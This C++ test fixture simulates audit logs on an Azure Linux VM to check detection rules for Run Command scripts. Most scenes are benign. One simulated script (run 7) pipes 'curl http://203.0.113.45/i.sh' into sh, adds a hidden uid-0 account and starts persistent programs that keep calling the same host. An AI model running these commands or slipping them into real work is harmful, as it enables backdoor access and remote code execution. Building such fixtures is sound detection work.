// vm-lnx01, 12 May 2026. The same intruder on a Debian server: a run that brings a program which
// stays, runs in other languages, runs of the second generation; between them the machine's own
// life, an administrator over ssh, and what only looks like it.
#include <fmt/format.h>

#include "tests/support/samples/linux_host.hpp"
#include "tests/support/samples/scenes.hpp"

namespace stemma::samples {

namespace {

constexpr const char* kHost = "vm-lnx01";
constexpr const char* kRunCommand = "/var/lib/waagent/Microsoft.CPlat.Core.RunCommandLinux-1.0.5";
constexpr const char* kManaged =
    "/var/lib/waagent/Microsoft.CPlat.Core.RunCommandHandlerLinux-1.3.28";

std::string downloaded(int number) {
  return fmt::format("/var/lib/waagent/run-command/download/{}/script.sh", number);
}
std::string managed_script(std::string_view name, int number) {
  return fmt::format("/var/lib/waagent/run-command-handler/download/{}/{}/script.sh", name, number);
}
std::string folder_of(const std::string& path) {
  return path.substr(0, path.rfind('/'));
}

/// `/bin/sh -c command`; /bin/sh is dash here.
Image sh_c(const std::string& command) {
  return {"/usr/bin/dash", {"/bin/sh", "-c", command}, "", "/bin/sh"};
}

class VmLnx01 {
 public:
  VmLnx01(Collection& collection, Truth& truth) : collection_(collection), truth_(truth) {}

  void tell() {
    boot();
    background();
    custom_script();
    run_that_stays();  // 7: no shebang
    bash_script();     // 8, and the log is rotated in it
    beacons();
    python_script();           // 9
    script_with_parameters();  // 10
    managed_run();
    managed_run_as_user();
    administrator();
    reused_pid();
    collect();
  }

 private:
  // ---- the machine itself ----

  void boot() {
    truth_.scene(kHost, "boot",
                 "auditd starts and loads rules that log execve and exit_group of everybody, of "
                 "processes without a login too.");
    host_.at("2026-05-12T04:00:01.000Z");
    init_ = host_.running(1, "/usr/lib/systemd/systemd", {"/sbin/init"});
    host_.record("DAEMON_START",
                 "op=start ver=3.0.9 format=enriched kernel=6.1.0-34-cloud-amd64 auid=4294967295 "
                 "pid=412 uid=0 ses=4294967295 "
                 "subj=unconfined res=success\x1D"
                 "AUID=\"unset\" UID=\"root\"");
    for (const char* key : {"exec", "proc_end"})
      host_.record("CONFIG_CHANGE", fmt::format("auid=4294967295 ses=4294967295 subj=unconfined "
                                                "op=add_rule key=\"{}\" list=4 res=1\x1D"
                                                "AUID=\"unset\"",
                                                key));
    LinuxProcess utmp = host_.run(init_, {"/usr/lib/systemd/systemd-update-utmp",
                                          {"/lib/systemd/systemd-update-utmp", "reboot"}});
    host_.message("SYSTEM_BOOT", utmp,
                  " comm=\"systemd-update-utmp\" exe=\"/usr/lib/systemd/systemd-update-utmp\" "
                  "hostname=? addr=? terminal=? res=success");
    host_.end(utmp);
    cron_ = service("cron", {"/usr/sbin/cron", {"/usr/sbin/cron", "-f"}});
    sshd_ = service("ssh", {"/usr/sbin/sshd", {"/usr/sbin/sshd", "-D"}});
    const LinuxProcess daemon =
        service("walinuxagent", {"/usr/bin/python3.11",
                                 {"/usr/bin/python3", "-u", "/usr/sbin/waagent", "-daemon"},
                                 "",
                                 "/usr/bin/python3"});
    agent_ = host_.run(daemon, {"/usr/bin/python3.11",
                                {"/usr/bin/python3", "-u", "bin/WALinuxAgent-2.11.1.4-py3.9.egg",
                                 "-run-exthandlers"},
                                "",
                                "/usr/bin/python3",
                                "/var/lib/waagent/WALinuxAgent-2.11.1.4"});
  }

  LinuxProcess service(std::string_view unit, const Image& image) {
    LinuxProcess out = host_.run(init_, image);
    host_.message("SERVICE_START", init_,
                  fmt::format("unit={} comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" "
                              "hostname=? addr=? terminal=? res=success",
                              unit));
    host_.wait(150);
    return out;
  }

  /// A cron job: cron's child logs in and starts a shell. `pid` 0: the next free one.
  LinuxProcess cron_job(const std::string& command, std::uint32_t session, std::uint32_t pid = 0) {
    LinuxProcess child = host_.copy(cron_);
    host_.record(
        "LOGIN",
        fmt::format(
            "pid={} uid=0 old-auid=4294967295 auid=0 tty=(none) old-ses=4294967295 ses={} res=1\x1D"
            "UID=\"root\" OLD-AUID=\"unset\" AUID=\"root\"",
            child.pid, session));
    child.auid = 0;
    child.session = session;
    LinuxProcess shell = host_.fork(child, pid);
    host_.exec(shell, sh_c(command));
    return shell;
  }

  void background() {
    truth_.scene(kHost, "background", "cron, apt's timer and an ssh session: nothing to find.");
    host_.at("2026-05-12T06:17:01.000Z");
    LinuxProcess hourly = cron_job("cd / && run-parts --report /etc/cron.hourly", 3);
    host_.run_and_end(hourly,
                      {"/usr/bin/run-parts", {"run-parts", "--report", "/etc/cron.hourly"}});
    host_.end(hourly);

    host_.at("2026-05-12T06:40:00.000Z");
    LinuxProcess daily = host_.run(init_, {"/usr/bin/dash",
                                           {"/bin/sh", "/usr/lib/apt/apt.systemd.daily", "update"},
                                           "/usr/lib/apt/apt.systemd.daily"});
    LinuxProcess apt = host_.run(daily, {"/usr/bin/apt-get", {"apt-get", "-qq", "-y", "update"}});
    host_.run_and_end(apt, {"/usr/lib/apt/methods/http", {"/usr/lib/apt/methods/http"}});
    host_.end(apt);
    host_.end(daily);

    host_.at("2026-05-12T08:20:11.000Z");
    LinuxProcess session = host_.run(sshd_, {"/usr/sbin/sshd", {"/usr/sbin/sshd", "-D", "-R"}});
    host_.message("USER_AUTH", session,
                  "op=pubkey acct=\"lena\" exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.23 "
                  "terminal=ssh res=success");
    host_.record("LOGIN", fmt::format("pid={} uid=0 old-auid=4294967295 auid=1000 tty=(none) "
                                      "old-ses=4294967295 ses=5 res=1\x1D"
                                      "UID=\"root\" OLD-AUID=\"unset\" AUID=\"user1000\"",
                                      session.pid));
    LinuxProcess user = host_.copy(session);
    user.uid = user.auid = 1000;
    user.session = 5;
    user.tty = "pts0";
    lena_ = host_.run(user, {"/usr/bin/bash", {"-bash"}, "", "/bin/bash", "/home/lena"});
    host_.run_and_end(lena_, {"/usr/bin/ls", {"ls", "--color=auto", "-la"}});
    host_.run_and_end(lena_, {"/usr/bin/uptime", {"uptime"}});
  }

  // ---- the agent and its handlers ----

  /// From the agent to the handler's shim, as current agents do it: a scope of systemd, and the
  /// shim in systemd-run's process.
  LinuxProcess shim(const std::string& folder, std::string_view type) {
    const std::string slice = fmt::format("azure-vmextensions-Microsoft.CPlat.Core.{}.slice", type);
    const std::string unit = fmt::format("enable_0b7c6f2e-51d4-4f0b-9a63-{:012x}", ++units_);
    const std::vector<std::string> words = {"systemd-run",
                                            "--property=CPUAccounting=no",
                                            "--property=MemoryAccounting=no",
                                            "--unit=" + unit,
                                            "--scope",
                                            "--slice=" + slice,
                                            folder + "/bin/run-command-shim",
                                            "enable"};
    log_agent(
        fmt::format("[Microsoft.CPlat.Core.{}] Executing command: {}/bin/run-command-shim enable "
                    "with environment variables: "
                    "{{\"ConfigSequenceNumber\": \"{}\"}}",
                    folder.substr(folder.find(type)), folder, sequence_));
    LinuxProcess shell = host_.run(agent_, sh_c(joined(words)));
    LinuxProcess out = host_.run(shell, {"/usr/bin/systemd-run", words});
    log_agent(fmt::format("[Microsoft.CPlat.Core.{}] Started extension in unit '{}.scope'",
                          folder.substr(folder.find(type)), unit));
    const std::string program = folder + "/bin/run-command-shim";
    host_.exec(out, {"/usr/bin/bash", {"/bin/bash", program, "enable"}, program, "", folder});
    agent_shell_ = shell;
    return out;
  }

  /// The handler behind the shim: nohup, and in the background, so that it outlives the shim.
  LinuxProcess handler(const std::string& folder, std::string_view type, const std::string& program,
                       const std::string& log) {
    LinuxProcess starter = shim(folder, type);
    LinuxProcess tee = host_.run(starter, {"/usr/bin/tee", {"tee", "-ia", log}});
    LinuxProcess out = host_.fork(starter);
    host_.exec(out, {"/usr/bin/nohup", {"nohup", folder + "/bin/" + program, "enable"}});
    host_.exec(out, {folder + "/bin/" + program, {folder + "/bin/" + program, "enable"}});
    host_.wait(30);
    host_.end(starter);
    host_.end(tee);
    host_.end(agent_shell_);
    host_.orphan(out);
    return out;
  }

  LinuxProcess extension(int number) {
    sequence_ = number;
    log_handler(number, "event=start");
    log_handler(number, fmt::format("event=\"creating output directory\" path={}",
                                    folder_of(downloaded(number))));
    log_handler(number, "event=\"executing command\"");
    return handler(kRunCommand, "RunCommandLinux", "run-command-extension",
                   "/var/log/azure/run-command/handler.log");
  }

  /// `sh -c P` in the download folder.
  LinuxProcess script_shell(const LinuxProcess& extension, int number,
                            const std::string& parameters = {}) {
    Image image = sh_c(downloaded(number) + parameters);
    image.directory = folder_of(downloaded(number));
    return host_.run(extension, image);
  }

  /// What dash does with a file without a first line that names its interpreter: the kernel refuses
  /// it, then dash reads it.
  LinuxProcess without_shebang(const LinuxProcess& shell, int number,
                               const std::vector<std::string>& parameters = {}) {
    LinuxProcess out = host_.fork(shell);
    host_.failed_exec(out, {downloaded(number), {}}, 8);
    std::vector<std::string> argv = {"/bin/sh", downloaded(number)};
    argv.insert(argv.end(), parameters.begin(), parameters.end());
    host_.exec(out, {"/usr/bin/dash", argv, "", "/bin/sh"});
    return out;
  }

  void finish(int number, LinuxProcess& shell, LinuxProcess& extension, const std::string& text,
              const std::string& output) {
    host_.end(shell);
    log_handler(number, "event=\"executed command\"");
    log_handler(number, "event=enabled");
    log_handler(number, "event=end");
    host_.end(extension);
    const std::string folder = "vm-lnx01" + folder_of(downloaded(number)) + '/';
    collection_.add(folder + "script.sh", text);
    collection_.add(folder + "stdout", output);
    collection_.add(folder + "stderr", "");
  }

  // ---- runs of the first generation ----

  void run_that_stays() {
    truth_.scene(kHost, "run that stays",
                 "Run Command v1, download/7, no shebang: curl into sh, an account with uid 0, a "
                 "program that outlives the script.");
    host_.at("2026-05-12T10:12:03.000Z");
    const std::string text =
        "id\nuname -a\ncurl -fsSL http://203.0.113.45/i.sh | sh\nsetsid /var/tmp/.cache/updated "
        ">/dev/null 2>&1 &\n"
        "(nohup /var/tmp/.cache/helper >/dev/null 2>&1 &)\n";
    LinuxProcess handler = extension(7);
    LinuxProcess shell = script_shell(handler, 7);
    truth_.quiet(shell.start,
                 "the shell that is to run the script: its parent is the handler, not a script");
    LinuxProcess script = without_shebang(shell, 7);
    script7_ = script.pid;
    truth_.must(Rule::published, script.start,
                "its parent `sh -c …/script.sh` has the path among its arguments: on dash the "
                "script's own start is found too. The "
                "refused execve before it starts nothing");
    const std::string direct = "direct child of a shell that was given the downloaded script";
    for (const Image& image :
         {Image{"/usr/bin/id", {"id"}}, Image{"/usr/bin/uname", {"uname", "-a"}}}) {
      LinuxProcess child = host_.run(script, image);
      truth_.must(Rule::published, child.start, direct);
      host_.end(child);
    }
    LinuxProcess curl =
        host_.run(script, {"/usr/bin/curl", {"curl", "-fsSL", "http://203.0.113.45/i.sh"}});
    truth_.must(Rule::published, curl.start, direct);
    LinuxProcess piped = host_.run(script, {"/usr/bin/dash", {"sh"}, "", "/bin/sh"});
    truth_.must(Rule::published, piped.start, direct + "; what it reads comes from curl");
    host_.end(curl);
    LinuxProcess useradd = host_.run(
        piped,
        {"/usr/sbin/useradd", {"useradd", "-o", "-u", "0", "-M", "-s", "/bin/bash", "sysupd"}});
    truth_.must(Rule::descendant, useradd.start,
                "started by the sh behind curl: a grandchild of the script");
    host_.message("ADD_USER", useradd,
                  "op=add-user acct=\"sysupd\" exe=\"/usr/sbin/useradd\" hostname=? addr=? "
                  "terminal=? res=success");
    host_.end(useradd);
    LinuxProcess chmod = host_.run(
        piped,
        {"/usr/bin/chmod", {"chmod", "755", "/var/tmp/.cache/updated", "/var/tmp/.cache/helper"}});
    truth_.must(Rule::descendant, chmod.start, "grandchild of the script");
    host_.end(chmod);
    host_.end(piped);

    daemon_ = host_.fork(script);
    host_.exec(daemon_, {"/usr/bin/setsid", {"setsid", "/var/tmp/.cache/updated"}});
    truth_.must(Rule::published, daemon_.start, direct);
    host_.exec(daemon_, {"/var/tmp/.cache/updated", {"/var/tmp/.cache/updated"}});
    truth_.must(
        Rule::published, daemon_.start,
        "exec in the same process while the script still is the parent: a start of its own");
    host_.end(script);
    finish(7, shell, handler, text,
           "uid=0(root) gid=0(root) groups=0(root)\nLinux vm-lnx01 6.1.0-34-cloud-amd64\n");
    host_.orphan(daemon_);
    LinuxProcess helper = host_.fork(init_);
    host_.exec(
        helper,
        {"/usr/bin/nohup", {"nohup", "/var/tmp/.cache/helper"}, "", "", folder_of(downloaded(7))});
    host_.exec(helper, {"/var/tmp/.cache/helper", {"/var/tmp/.cache/helper"}});
    truth_.quiet(helper.start,
                 "forked twice and exec'ed when the script was gone: its parent is init, clones "
                 "are not logged, and only the working "
                 "directory still tells where it came from");
  }

  void beacons() {
    truth_.scene(kHost, "what stayed calls home",
                 "The program of run 7, an orphan by now, starts curl again and again.");
    for (const char* when : {"2026-05-12T11:50:00.000Z", "2026-05-12T12:20:00.000Z"}) {
      host_.at(when);
      LinuxProcess curl = host_.run(
          daemon_, {"/usr/bin/curl", {"curl", "-fsS", "-m", "20", "http://203.0.113.45/t"}});
      truth_.must(
          Rule::descendant, curl.start,
          "its parent left the script's tree for init, but was the script's child when it exec'ed");
      host_.end(curl);
    }
  }

  void bash_script() {
    truth_.scene(kHost, "bash script",
                 "Run Command v1, download/8, `#!/bin/bash`; its last line is exec. The log is "
                 "rotated in the middle of an event.");
    host_.at("2026-05-12T11:30:40.000Z");
    const std::string text =
        "#!/bin/bash\napt-get -qq update\nsystemctl restart nginx\nexec logger -t deploy done\n";
    LinuxProcess handler = extension(8);
    LinuxProcess shell = script_shell(handler, 8);
    LinuxProcess script = host_.fork(shell);
    host_.exec(script, {"/usr/bin/bash", {"/bin/bash", downloaded(8)}, downloaded(8)});
    truth_.must(Rule::published, script.start,
                "its parent `sh -c …/script.sh` has the path among its arguments");
    LinuxProcess apt = host_.run(script, {"/usr/bin/apt-get", {"apt-get", "-qq", "update"}});
    host_.rotate_within_last_event(2);
    truth_.must(
        Rule::published, apt.start,
        "direct child of the script; its event begins in audit.log.1 and ends in audit.log");
    LinuxProcess method = host_.fork(apt);
    method.uid = 42;
    host_.exec(method, {"/usr/lib/apt/methods/http", {"/usr/lib/apt/methods/http"}});
    truth_.must(Rule::descendant, method.start, "apt-get's child: a grandchild of the script");
    host_.end(method);
    host_.end(apt);
    LinuxProcess systemctl =
        host_.run(script, {"/usr/bin/systemctl", {"systemctl", "restart", "nginx"}});
    truth_.must(Rule::published, systemctl.start,
                "direct child of a shell that was given the downloaded script");
    host_.end(systemctl);
    host_.exec(script, {"/usr/bin/logger", {"logger", "-t", "deploy", "done"}});
    truth_.must(Rule::published, script.start,
                "exec in the script's own process: its parent still is `sh -c …/script.sh`");
    host_.end(script);
    finish(8, shell, handler, text, "");
  }

  void python_script() {
    truth_.scene(kHost, "python script", "Run Command v1, download/9, `#!/usr/bin/env python3`.");
    host_.at("2026-05-12T12:40:09.000Z");
    const std::string text =
        "#!/usr/bin/env python3\nimport subprocess\nsubprocess.run(['ss', "
        "'-tlnp'])\nsubprocess.run('getent passwd; true', shell=True)\n";
    LinuxProcess handler = extension(9);
    LinuxProcess shell = script_shell(handler, 9);
    LinuxProcess script = host_.fork(shell);
    host_.exec(script, {"/usr/bin/env", {"/usr/bin/env", "python3", downloaded(9)}, downloaded(9)});
    truth_.must(Rule::published, script.start,
                "child of `sh -c …/script.sh`: the interpreter's start");
    host_.exec(script, {"/usr/bin/python3.11", {"python3", downloaded(9)}, "", "/usr/bin/python3"});
    truth_.must(Rule::published, script.start,
                "env becomes python3 in the same process; the parent is still that shell");
    LinuxProcess ss = host_.run(script, {"/usr/bin/ss", {"ss", "-tlnp"}});
    truth_.must(Rule::other_interpreter, ss.start,
                "the parent is python3 with the path among its arguments: no shell, so not the "
                "published rule");
    host_.end(ss);
    LinuxProcess inner = host_.run(script, sh_c("getent passwd; true"));
    truth_.must(Rule::other_interpreter, inner.start,
                "direct child of python3 that runs the script");
    LinuxProcess getent = host_.run(inner, {"/usr/bin/getent", {"getent", "passwd"}});
    truth_.must(Rule::descendant, getent.start, "a shell lies between python3 and getent");
    host_.end(getent);
    host_.end(inner);
    host_.end(script);
    finish(9, shell, handler, text,
           "State  Recv-Q Send-Q Local Address:Port\nLISTEN 0      128    0.0.0.0:22\n");
  }

  void script_with_parameters() {
    truth_.scene(
        kHost, "script with parameters",
        "Run Command v1, download/10, with text behind the script; two digits mean nothing here.");
    host_.at("2026-05-12T13:05:30.000Z");
    LinuxProcess handler = extension(10);
    LinuxProcess shell = script_shell(handler, 10, " web01 --dry-run");
    LinuxProcess script = without_shebang(shell, 10, {"web01", "--dry-run"});
    truth_.must(Rule::parameters, script.start,
                "its parent's single argument is the script with text behind it, which the "
                "published pattern does not take");
    truth_.near(Rule::published, script.start, "process.parent.args like",
                "/var/lib/waagent/run-command/download/10/script.sh web01 --dry-run",
                "text behind script.sh in the one argument of sh -c");
    LinuxProcess df = host_.run(script, {"/usr/bin/df", {"df", "-h"}});
    truth_.must(Rule::published, df.start, "in the parent's own arguments the path stands alone");
    host_.end(df);
    host_.end(script);
    finish(10, shell, handler, "df -h\n",
           "Filesystem      Size  Used Avail Use% Mounted on\n/dev/sda1        29G  3.1G   25G  "
           "12% /\n");
  }

  // ---- runs of the second generation ----

  void managed_run() {
    truth_.scene(kHost, "managed run",
                 "Managed Run Command `hardening`, no shebang: bash -c reads the script in its own "
                 "process.");
    host_.at("2026-05-12T14:00:20.000Z");
    sequence_ = 0;
    LinuxProcess process = handler(kManaged, "RunCommandHandlerLinux", "run-command-handler",
                                   "/var/log/azure/run-command-handler/handler.log");
    LinuxProcess bookkeeping = host_.fork(process);
    const std::string ps = fmt::format("ps -o lstart= -p {}", process.pid);
    host_.exec(bookkeeping, {"/usr/bin/bash", {"/bin/bash", "-c", ps}, "", "/bin/bash"});
    host_.exec(bookkeeping,
               {"/usr/bin/ps", {"ps", "-o", "lstart=", "-p", std::to_string(process.pid)}});
    truth_.quiet(bookkeeping.start, "the handler's own bookkeeping");
    host_.end(bookkeeping);

    const std::string path = managed_script("hardening", 0);
    LinuxProcess script = host_.run(
        process, {"/usr/bin/bash", {"/bin/bash", "-c", path}, "", "/bin/bash", folder_of(path)});
    truth_.quiet(script.start, "the shell that runs the script: its parent is the handler");
    host_.failed_exec(script, {path, {}}, 8);
    for (const Image& image :
         {Image{"/usr/sbin/sysctl", {"sysctl", "-w", "net.ipv4.ip_forward=0"}},
          Image{"/usr/bin/grep", {"grep", "-c", "PermitRootLogin", "/etc/ssh/sshd_config"}}}) {
      LinuxProcess child = host_.run(script, image);
      truth_.must(Rule::managed_linux, child.start,
                  "direct child of a shell with a path of the managed handler's download folder");
      host_.end(child);
    }
    host_.end(script);
    host_.end(process);
    const std::string folder = "vm-lnx01" + folder_of(path) + '/';
    collection_.add(
        folder + "script.sh",
        "sysctl -w net.ipv4.ip_forward=0\ngrep -c PermitRootLogin /etc/ssh/sshd_config\n");
    collection_.add(folder + "stdout", "net.ipv4.ip_forward = 0\n1\n");
    collection_.add(folder + "stderr", "");
  }

  void managed_run_as_user() {
    truth_.scene(kHost, "managed run as another user",
                 "Managed Run Command `rotate` as svcapp: the handler echoes the password into "
                 "sudo, and the log keeps it.");
    host_.at("2026-05-12T14:30:00.000Z");
    sequence_ = 2;
    LinuxProcess process = handler(kManaged, "RunCommandHandlerLinux", "run-command-handler",
                                   "/var/log/azure/run-command-handler/handler.log");
    const std::string path =
        "/home/svcapp/waagent/run-command-handler-runas/download/rotate/2/script.sh";
    LinuxProcess shell = host_.run(
        process, {"/usr/bin/bash",
                  {"/bin/bash", "-c", "echo not-a-real-password | sudo -S -u svcapp " + path},
                  "",
                  "/bin/bash",
                  folder_of(managed_script("rotate", 2))});
    LinuxProcess sudo = host_.run(shell, {"/usr/bin/sudo", {"sudo", "-S", "-u", "svcapp", path}});
    truth_.must(Rule::managed_runas, sudo.start,
                "child of the shell that holds the echo with the password");
    LinuxProcess script = host_.fork(sudo);
    script.uid = 1001;
    host_.exec(script, {"/usr/bin/bash", {"/bin/bash", path}, path});
    truth_.must(Rule::managed_runas, script.start,
                "child of sudo, one of whose arguments is the copy in the user's home");
    LinuxProcess find = host_.run(
        script, {"/usr/bin/find",
                 {"find", "/srv/app/log", "-name", "*.log.1", "-exec", "gzip", "{}", ";"}});
    truth_.must(Rule::managed_runas, find.start, "child of the script's shell");
    LinuxProcess gzip = host_.run(find, {"/usr/bin/gzip", {"gzip", "/srv/app/log/app.log.1"}});
    truth_.must(Rule::descendant, gzip.start, "find's child: a grandchild of the script");
    host_.end(gzip);
    host_.end(find);
    host_.end(script);
    host_.end(sudo);
    host_.end(shell);
    host_.end(process);
  }

  // ---- what looks like it ----

  void custom_script() {
    truth_.scene(kHost, "custom script extension",
                 "The same agent runs a script of another extension.");
    host_.at("2026-05-12T09:02:00.000Z");
    LinuxProcess handler =
        host_.run(agent_, {"/var/lib/waagent/Microsoft.Azure.Extensions.CustomScript-2.1.13/bin/"
                           "custom-script-extension",
                           {"/var/lib/waagent/Microsoft.Azure.Extensions.CustomScript-2.1.13/bin/"
                            "custom-script-extension",
                            "enable"}});
    LinuxProcess shell =
        host_.run(handler, sh_c("/var/lib/waagent/custom-script/download/0/install.sh"));
    const std::string path = "/var/lib/waagent/custom-script/download/0/install.sh";
    LinuxProcess script = host_.run(shell, {"/usr/bin/bash", {"/bin/bash", path}, path});
    LinuxProcess apt =
        host_.run(script, {"/usr/bin/apt-get", {"apt-get", "install", "-y", "nginx"}});
    truth_.quiet(apt.start, "another extension's download folder");
    truth_.near(Rule::published, apt.start, "process.parent.args like",
                "/var/lib/waagent/custom-script/download/0/install.sh",
                "another extension's download folder");
    host_.end(apt);
    host_.end(script);
    host_.end(shell);
    host_.end(handler);
  }

  void administrator() {
    truth_.scene(kHost, "administrator",
                 "lena looks at what was run, by way of sudo, on a copy of the script.");
    host_.at("2026-05-12T15:10:00.000Z");
    const std::string copy = downloaded(9) + ".bak";
    const auto as_root = [&](const std::vector<std::string>& argv, const Image& image) {
      std::vector<std::string> sudo = {"sudo"};
      sudo.insert(sudo.end(), argv.begin(), argv.end());
      LinuxProcess asked = host_.run(lena_, {"/usr/bin/sudo", sudo});
      host_.message(
          "USER_CMD", asked,
          fmt::format("cwd=\"/home/lena\" cmd={} exe=\"/usr/bin/sudo\" terminal=pts/0 res=success",
                      support::audit_untrusted(joined(argv))));
      LinuxProcess root = host_.fork(asked);
      root.uid = 0;
      host_.exec(root, image);
      host_.wait(20);
      return std::pair(asked, root);
    };
    auto [sudo_cat, cat] = as_root({"cat", copy}, {"/usr/bin/cat", {"cat", copy}});
    truth_.quiet(cat.start, "the path is only an argument, and of a copy; cat starts nothing");
    truth_.near(Rule::published, cat.start, "process.parent.name in", "sudo",
                "the parent is no shell, and the argument is a copy's path", false);
    host_.end(cat);
    host_.end(sudo_cat);

    const std::string check = "/root/bin/check-script";
    auto [sudo_check, checker] =
        as_root({"bash", check, copy}, {"/usr/bin/bash", {"bash", check, copy}});
    LinuxProcess sum = host_.run(checker, {"/usr/bin/sha256sum", {"sha256sum", copy}});
    truth_.quiet(sum.start,
                 "the parent is a shell and its argument begins with the path, but ends in .bak: "
                 "the pattern must match whole");
    truth_.near(Rule::published, sum.start, "process.parent.args like",
                "/var/lib/waagent/run-command/download/9/script.sh.bak",
                "the argument goes on behind script.sh");
    host_.end(sum);
    host_.end(checker);
    host_.end(sudo_check);
  }

  void reused_pid() {
    truth_.scene(kHost, "pid in use again",
                 "A cron job's shell gets the pid that the script of run 7 had.");
    host_.at("2026-05-12T16:05:01.000Z");
    LinuxProcess shell = cron_job("/usr/sbin/logrotate /etc/logrotate.conf; true", 9, script7_);
    truth_.quiet(shell.start, "same pid, another process");
    LinuxProcess logrotate =
        host_.run(shell, {"/usr/sbin/logrotate", {"/usr/sbin/logrotate", "/etc/logrotate.conf"}});
    truth_.quiet(logrotate.start, "the parent's pid once was run 7's script, which had ended");
    host_.end(logrotate);
    host_.end(shell);
  }

  // ---- the other logs ----

  void log_handler(int number, const std::string& event) {
    handler_log_ +=
        fmt::format("time={} version=v1.0.5/git@5d1c0de-clean operation=enable seq={} {}\n",
                    format_time(host_.now(), 0), number, event);
  }
  void log_agent(const std::string& text) {
    agent_log_ += fmt::format("{} INFO ExtHandler {}\n", format_time(host_.now(), 6), text);
  }

  void collect() {
    const std::string logs = "vm-lnx01/var/log/";
    collection_.add("vm-lnx01/etc/hostname", std::string(kHost) + '\n');
    collection_.add(logs + "audit/audit.log.1", host_.older_log());
    collection_.add(logs + "audit/audit.log", host_.newer_log());
    collection_.add(logs + "waagent.log", agent_log_);
    collection_.add(logs + "azure/run-command/handler.log", handler_log_);
    for (const Rule rule :
         {Rule::managed_windows, Rule::script_number, Rule::other_spelling, Rule::pwsh})
      truth_.blind(rule, kHost, "other_system", "the rule is for Windows");
    truth_.tree(kHost, host_.tree());
  }

  Collection& collection_;
  Truth& truth_;
  LinuxHost host_{kHost, 590};
  LinuxProcess init_, cron_, sshd_, agent_, lena_, agent_shell_, daemon_;
  std::uint32_t script7_ = 0;
  int sequence_ = 0;
  unsigned units_ = 0x1a40;
  std::string handler_log_, agent_log_;
};

}  // namespace

void tell_vm_lnx01(Collection& collection, Truth& truth) {
  VmLnx01(collection, truth).tell();
}

}  // namespace stemma::samples
